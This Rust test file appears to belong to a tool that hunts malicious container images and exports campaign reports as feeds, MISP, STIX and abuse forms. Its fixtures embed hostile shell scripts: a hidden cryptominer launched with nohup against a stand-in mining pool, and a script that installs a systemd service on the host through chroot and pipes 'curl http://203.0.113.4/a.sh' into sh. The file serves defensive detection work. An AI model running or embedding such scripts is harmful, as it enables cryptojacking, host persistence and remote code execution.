//! What the forms of a campaign hand on is the actor's own: no honest image, no count twice, no time that
//! cannot be; and every name that they print is understood.
#![allow(missing_docs, clippy::unwrap_used)]

mod support;

use std::fs;
use std::path::Path;

use serde_json::{Value, json};
use support::{Place, RawImage, Said, Tar, write_index};

/// Images on disk, with what a site says of them.
struct Corpus {
    place: Place,
    store: String,
    records: Vec<Value>,
}

/// An image that mines from the start for the wallet of `actor`, and is like no other.
fn miner(actor: &str, number: usize, created: Option<&str>) -> RawImage {
    let wallet = lazaret_lab::wallet("xmr", actor).unwrap();
    let script = format!(
        "#!/bin/sh\n# {actor} {number}\nnohup /var/tmp/k -o stratum+tcp://pool.{actor}-pay.test:4444 -u {wallet} -p x >/dev/null &\n"
    );
    image(&["/bin/sh", "/opt/run.sh"], "opt/run.sh", &script, created)
}

/// An image that prints a number.
fn honest(number: usize, created: Option<&str>) -> RawImage {
    image(&["python3", "/app/x.py"], "app/x.py", &format!("print({number})\n"), created)
}

fn image(entrypoint: &[&str], path: &str, text: &str, created: Option<&str>) -> RawImage {
    let mut image = RawImage::default();
    image.config["config"]["Entrypoint"] = json!(entrypoint);
    if let Some(created) = created {
        image.config["created"] = json!(created);
    }
    let mut tar = Tar::default();
    tar.file(path, text.as_bytes());
    image.layer(tar.end());
    image
}

fn on(mut image: RawImage, architecture: &str) -> RawImage {
    image.config["architecture"] = json!(architecture);
    image.platform["architecture"] = json!(architecture);
    image
}

impl Corpus {
    fn new() -> Self {
        let place = Place::new();
        let store = format!("sqlite:{}", place.path("store.sqlite").display());
        Self { place, store, records: Vec::new() }
    }

    fn add(&mut self, account: &str, repository: &str, tag: &str, images: &[&RawImage], more: Value) {
        let path = format!("lab/{account}-{repository}-{tag}");
        write_index(&self.place.path(&path), images);
        let mut record = json!({"path": path.strip_prefix("lab/").unwrap(), "account": account,
            "repository": repository, "tag": tag});
        record.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
        self.records.push(record);
    }

    /// Hunts all of it; the name of the one campaign that comes out.
    fn hunt(&self) -> String {
        let hub = self.place.path("lab/hub.json");
        fs::write(&hub, Value::from(self.records.clone()).to_string()).unwrap();
        let hunted = self.run(&["hunt", "--metadata", hub.to_str().unwrap(), "--no-progress"]);
        assert_eq!(hunted.code, 1, "{hunted:?}");
        let list = self.list();
        assert_eq!(list.len(), 1, "{list:?}");
        list[0]["id"].as_str().unwrap().to_owned()
    }

    fn list(&self) -> Vec<Value> {
        let said = self.run(&["campaigns", "--json"]);
        let list: Value = serde_json::from_str(&said.out).unwrap_or_else(|error| panic!("{error}: {said:?}"));
        list["campaigns"].as_array().unwrap().clone()
    }

    fn run(&self, arguments: &[&str]) -> Said {
        let at = if arguments[0] == "campaigns" && !arguments.get(1).is_none_or(|word| word.starts_with('-'))
        {
            2
        } else {
            1
        };
        let (words, rest) = arguments.split_at(at);
        self.place.run(&[words, &["--store", &self.store], rest].concat())
    }

    fn told(&self, id: &str) -> Value {
        let said = self.run(&["campaign", id, "-f", "json"]);
        serde_json::from_str::<Value>(&said.out).unwrap_or_else(|error| panic!("{error}: {said:?}"))["campaign"].clone()
    }

    fn manifest(&self, layout: &str) -> String {
        let index = fs::read(self.place.path(layout).join("index.json")).unwrap();
        let index: Value = serde_json::from_slice(&index).unwrap();
        index["manifests"][0]["digest"].as_str().unwrap().to_owned()
    }
}

fn children(layout: &Path, index: &str) -> Vec<String> {
    let bytes = fs::read(layout.join("blobs/sha256").join(&index[7..])).unwrap();
    let index: Value = serde_json::from_slice(&bytes).unwrap();
    let children = index["manifests"].as_array().unwrap();
    children.iter().map(|child| child["digest"].as_str().unwrap().to_owned()).collect()
}

#[test]
fn an_honest_image_in_an_actors_index_is_in_no_form_and_in_no_feed() {
    let mut corpus = Corpus::new();
    let clean = on(honest(1, Some("2015-01-03T00:00:00Z")), "s390x");
    for number in 0..2 {
        let bad = miner("mp", number, Some("2020-01-01T00:00:00Z"));
        corpus.add(&format!("mp{number}"), "app", "latest", &[&bad, &clean], json!({"pulls": 7}));
    }
    // Of one there is no honest platform: its index is the actor's alone.
    let (one, other) = (miner("mp", 8, None), on(miner("mp", 9, None), "arm64"));
    corpus.add("mp8", "app", "latest", &[&one, &other], json!({}));
    corpus.add("acme", "official", "latest", &[&clean], json!({}));
    let id = corpus.hunt();
    let spared = corpus.manifest("lab/acme-official-latest");
    let mixed = corpus.manifest("lab/mp0-app-latest");
    let whole = corpus.manifest("lab/mp8-app-latest");
    let bad = children(&corpus.place.path("lab/mp0-app-latest"), &mixed).remove(0);
    assert_eq!(children(&corpus.place.path("lab/mp0-app-latest"), &mixed)[1], spared);

    let at = |name: &str| corpus.place.path(name).display().to_string();
    assert_eq!(corpus.place.run(&["feed", "keygen", "-o", &at("team.pem")]).code, 0);
    let exported = corpus.place.run(&[
        "feed",
        "export",
        "-o",
        &at("pack.json"),
        "--key",
        &at("team.pem"),
        "--name",
        "acme",
        "--version",
        "1",
        "--expires",
        "9d",
        "--issuer",
        "Acme",
        "--campaign",
        &id,
        "--store",
        &corpus.store,
    ]);
    assert_eq!(exported.code, 0, "{exported:?}");
    assert!(exported.err.contains("have as clean, and are left out"), "{exported:?}");
    let envelope: Value = serde_json::from_str(&fs::read_to_string(at("pack.json")).unwrap()).unwrap();
    let feed = data_encoding::BASE64.decode(envelope["payload"].as_str().unwrap().as_bytes()).unwrap();
    let mut forms = vec![("feed", String::from_utf8(feed).unwrap())];
    for form in ["csv", "misp", "stix", "abuse"] {
        let said = corpus.run(&["campaign", &id, "-f", form]);
        assert_eq!(said.code, 0, "{said:?}");
        forms.push((form, said.out));
    }
    for (form, text) in forms {
        let has = |digest: &str| text.contains(&digest[7..]);
        assert!(!has(&spared), "{form} accuses an honest image: {text}");
        assert!(!has(&mixed), "{form} accuses an index with an honest image: {text}");
        assert!(has(&bad) && has(&whole), "{form} lost what is the actor's: {text}");
    }
    let told = corpus.told(&id);
    let member = told["members"].as_array().unwrap().iter().find(|m| m["digest"] == mixed.as_str()).unwrap();
    let named: Vec<&str> = member["spared"].as_array().unwrap().iter().map(|d| d.as_str().unwrap()).collect();
    assert!(
        named.contains(&spared.as_str()) && named.contains(&mixed.as_str()) && named.len() == 2,
        "{member}"
    );
    // Nor does the honest image make the actor older than he is.
    assert_eq!(told["firstSeen"], "2020-01-01T00:00:00.000Z");
}

#[test]
fn every_name_that_is_printed_is_understood() {
    let mut corpus = Corpus::new();
    for number in 0..2 {
        let bad = miner("ua", number, None);
        corpus.add(&format!("ua{number}"), &format!("cron{number}"), "latest", &[&bad], json!({}));
    }
    corpus.add("ua0", "twin", "1.0", &[&miner("ua", 5, None)], json!({}));
    corpus.add("ua1", "twin", "1.0", &[&miner("ua", 6, None)], json!({}));
    let id = corpus.hunt();
    let told = corpus.told(&id);
    let of = |name: &str| {
        let members = told["members"].as_array().unwrap();
        members.iter().find(|m| m["repository"] == name).unwrap()["digest"].as_str().unwrap().to_owned()
    };
    let (a, b) = (of("docker.io/ua0/cron0"), of("docker.io/ua1/cron1"));
    let on_disk = format!("oci:{}", corpus.place.path("lab/ua0-cron0-latest").display());
    for name in [
        "docker.io/ua0/cron0:latest",
        "docker.io/ua0/cron0",
        "ua0/cron0",
        "cron0",
        "cron0:latest",
        &a,
        &a[..20],
        &a[7..19],
        &format!("docker.io/ua0/cron0@{}", &a[7..19]),
        &format!("docker.io/ua0/cron0@{a}"),
        &on_disk,
    ] {
        let said = corpus.run(&["campaigns", "why", name, &b]);
        assert_eq!(said.code, 0, "{name}: {said:?}");
        assert!(said.out.contains("are tied"), "{name}: {said:?}");
    }
    let two = corpus.run(&["campaigns", "why", "twin", "cron1"]);
    assert!(two.code == 2 && two.err.contains("may be docker.io/ua0/twin or docker.io/ua1/twin"), "{two:?}");
    let none = corpus.run(&["campaigns", "why", "ron0", "cron1"]);
    assert!(none.code == 2 && none.err.contains("no image was judged under the name `ron0`"), "{none:?}");
    let listed = corpus.run(&["images", "ua0/cron0"]);
    assert!(listed.out.contains("docker.io/ua0/cron0:latest") && !listed.out.contains("cron1"), "{listed:?}");

    // A pair by the names of the story, which the story knows at once.
    let pair = ["campaigns", "refute", "pair", "docker.io/ua0/cron0:latest", "cron1"];
    let done = corpus.run(&[pair.as_slice(), &["--reason", "two customers", "--author", "me"]].concat());
    assert_eq!(done.code, 0, "{done:?}");
    assert!(done.out.contains("docker.io/ua0/cron0 and docker.io/ua1/cron1: ties nobody"), "{done:?}");
    let refuted = corpus.told(&id)["method"]["refuted"].to_string();
    assert!(refuted.contains("two customers") && refuted.contains("docker.io/ua0/cron0"), "{refuted}");
    let back = corpus.run(&[pair.as_slice(), &["--take-back"]].concat());
    assert_eq!(back.code, 0, "{back:?}");
    assert_eq!(corpus.told(&id)["method"]["refuted"], json!([]));
}

#[test]
fn pulls_of_a_repository_count_once_and_list_and_story_tell_the_same() {
    let mut corpus = Corpus::new();
    let site = json!({"pulls": 1000, "created": "2020-02-01T00:00:00Z", "updated": "2020-03-01T00:00:00Z"});
    for (number, tag) in ["1.0", "1.1", "latest"].into_iter().enumerate() {
        let bad = miner("multi", number, Some("2020-01-15T00:00:00Z"));
        corpus.add("multi", "app", tag, &[&bad], site.clone());
    }
    let bad = miner("multi", 9, Some("2020-01-01T00:00:00Z"));
    corpus.add("solo", "r", "latest", &[&bad], json!({"pulls": 30, "updated": "2020-04-01T00:00:00Z"}));
    let id = corpus.hunt();
    let (listed, told) = (corpus.list().remove(0), corpus.told(&id));
    assert_eq!((&listed["pulls"], &told["pulls"]), (&json!(1030), &json!(1030)));
    let accounts: Vec<_> = told["accounts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|account| account["pulls"].as_u64().unwrap())
        .collect();
    assert_eq!(accounts, [1000, 30]);
    let created = told["timeline"].as_array().unwrap().iter();
    assert_eq!(created.filter(|m| m["what"] == "docker.io/multi/app is created").count(), 1, "{told:#}");
    assert_eq!((&listed["firstSeen"], &listed["lastSeen"]), (&json!("2020-01-01"), &json!("2020-04-01")));
    let seen = (told["firstSeen"].as_str().unwrap(), told["lastSeen"].as_str().unwrap());
    assert_eq!(seen, ("2020-01-01T00:00:00.000Z", "2020-04-01T00:00:00.000Z"));
    let text = corpus.run(&["campaigns"]).out;
    assert!(text.contains("1,030  2020-01-01..2020-04-01"), "{text}");
}

#[test]
fn a_time_that_cannot_be_is_told_nowhere() {
    let mut corpus = Corpus::new();
    for (number, created) in
        [None, Some("9999-12-31T23:59:59Z"), Some("1970-01-01T00:00:00Z")].into_iter().enumerate()
    {
        corpus.add(&format!("nod{number}"), "app", "latest", &[&miner("nod", number, created)], json!({}));
    }
    let id = corpus.hunt();
    let listed = corpus.list().remove(0);
    assert_eq!((&listed["firstSeen"], &listed["lastSeen"]), (&Value::Null, &Value::Null));
    let form = |form: &str| -> (String, Value) {
        let said = corpus.run(&["campaign", &id, "-f", form]);
        assert!(!said.out.contains("1970-01-01") && !said.out.contains("9999"), "{form}: {}", said.out);
        let json = serde_json::from_str(&said.out).unwrap_or_default();
        (said.out, json)
    };
    assert!(!form("text").0.contains("active "));
    let (_, stix) = form("stix");
    for object in stix["objects"].as_array().unwrap() {
        assert!(object.get("first_seen").is_none() && object.get("last_seen").is_none(), "{object}");
    }
    let (_, misp) = form("misp");
    let today = time::OffsetDateTime::now_utc().date();
    let days = [today, today.previous_day().unwrap()].map(|day| json!(day.to_string()));
    assert!(days.contains(&misp["Event"]["date"]), "the day of the judgement: {}", misp["Event"]["date"]);
}

#[test]
fn a_wallet_that_one_image_alone_is_paid_by_is_told_counted_and_handed_on() {
    let mut corpus = Corpus::new();
    // Tied by the pool and the account; of two wallets none is shared.
    let wallets = ["one", "two"].map(|seed| lazaret_lab::wallet("xmr", seed).unwrap());
    for (number, wallet) in wallets.iter().enumerate() {
        let script = format!(
            "#!/bin/sh\n# {number}\nnohup /var/tmp/k -o stratum+tcp://pool.lone-pay.test:4444 -u {wallet} -p x >/dev/null &\n"
        );
        let bad = image(&["/bin/sh", "/opt/run.sh"], "opt/run.sh", &script, None);
        corpus.add("lone", &format!("r{number}"), "latest", &[&bad], json!({}));
    }
    let id = corpus.hunt();
    let told = corpus.told(&id);
    let lone: Vec<&str> =
        told["lone"].as_array().unwrap().iter().map(|lone| lone["value"].as_str().unwrap()).collect();
    assert_eq!(lone.len(), 2, "{told:#}");
    let totals = corpus.place.path("w.csv");
    let file = totals.to_str().unwrap();
    fs::write(&totals, format!("\u{feff}wallet,amount\n{},300\n", wallets[1])).unwrap();
    for form in ["text", "json", "markdown", "csv", "misp", "stix", "abuse", "html"] {
        let said = corpus.run(&["campaign", &id, "-f", form, "--wallets", file]);
        assert_eq!((said.code, said.err.as_str()), (0, ""), "{form}");
        let text: String = said.out.split_whitespace().collect();
        assert!(text.contains(&wallets[1]), "{form}: {}", said.out);
        if !["csv", "stix", "abuse"].contains(&form) {
            assert!(text.contains("300"), "{form} lost what it earned");
        }
    }
    fs::write(&totals, format!("wallet,amount\n{},lots\n", wallets[1])).unwrap();
    let wrong = corpus.run(&["campaign", &id, "--wallets", file]);
    assert!(wrong.code == 2 && wrong.err.contains("the amount `lots` is no amount"), "{wrong:?}");
    fs::write(&totals, "wallet,amount\n4other,1\n").unwrap();
    let none = corpus.run(&["campaign", &id, "--wallets", file]);
    assert!(none.code == 0 && none.err.contains("no finding names any of these wallets"), "{none:?}");

    // A pack goes into a folder, and takes the place of no file.
    let packed = corpus.run(&["campaign", &id, "-f", "sigma", "-o", file]);
    assert!(
        packed.code == 2 && packed.err.contains("is a file, and not overwritten: name a folder"),
        "{packed:?}"
    );
    assert!(fs::read_to_string(&totals).unwrap().starts_with("wallet,"));
}

#[test]
fn a_service_on_the_host_is_told_as_one_and_where_the_images_fetch_from_is_blocked() {
    let mut corpus = Corpus::new();
    for number in 0..2 {
        let script = format!(
            "#!/bin/sh\n# {number}\nprintf '[Service]\\nExecStart=/usr/lib/x\\n' > /host/etc/systemd/system/netd.service\n\
             chroot /host systemctl enable --now netd.service\ncurl -fsSL http://203.0.113.4/a.sh | sh\n"
        );
        let bad = image(&["/bin/sh", "/opt/run.sh"], "opt/run.sh", &script, None);
        corpus.add(&format!("svc{number}"), "app", "latest", &[&bad], json!({}));
    }
    let id = corpus.hunt();
    let told = corpus.told(&id);
    let deeds = told["members"][0]["deeds"].as_array().unwrap();
    assert!(deeds.iter().any(|deed| deed["kind"] == "host-service"), "{deeds:#?}");
    assert!(deeds.iter().all(|deed| deed["kind"] != "host-cron"), "{deeds:#?}");
    let steps = told["cleanup"].as_array().unwrap().iter().map(|step| step["what"].as_str().unwrap());
    let blocked: Vec<&str> = steps.filter(|step| step.starts_with("Block")).collect();
    assert!(blocked.iter().any(|step| step.ends_with(" http://203.0.113.4/a.sh")), "{blocked:?}");
}
